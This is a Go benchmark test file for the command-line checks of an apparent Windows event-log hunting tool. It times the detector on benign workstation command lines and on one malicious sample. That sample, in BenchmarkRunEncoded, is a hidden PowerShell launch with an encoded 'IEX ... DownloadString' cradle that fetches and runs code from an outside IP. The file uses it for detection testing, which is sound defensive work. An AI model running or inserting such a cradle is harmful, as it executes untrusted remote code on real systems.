package cmdline

import (
	"strings"
	"testing"

	"github.com/evtxhunt/evtxhunt/analyzer/event"
)

// benignEvents are typical command lines of a workstation, none of which
// triggers a check.
func benignEvents() []*event.Process {
	return []*event.Process{
		newEvent(`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`),
		newEvent(`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`),
		newEvent(powershellImage, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\Program Files\Contoso\scripts\inventory.ps1" -Verbose`),
		newEvent(cmdImage, `C:\Windows\system32\cmd.exe /c ""C:\Program Files\Contoso\bin\sync.cmd" --profile default"`),
		newEvent(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Documents\Quarterly report 2026.docx" /o ""`),
		newEvent(`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe --type=renderer "+strings.Repeat("--enable-features=SomeFeature ", 60)),
	}
}

func BenchmarkRunBenign(b *testing.B) {
	events := benignEvents()
	dst := make([]Hit, 0, 4)
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		dst = Run(events[i%len(events)], dst[:0])
	}
}

func BenchmarkRunEncoded(b *testing.B) {
	p := newEvent(powershellImage, "powershell.exe -NoP -NonI -W Hidden -Enc "+encodeCommand(strings.Repeat("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a');", 20)))
	dst := make([]Hit, 0, 4)
	b.ReportAllocs()
	for b.Loop() {
		dst = Run(p, dst[:0])
	}
}
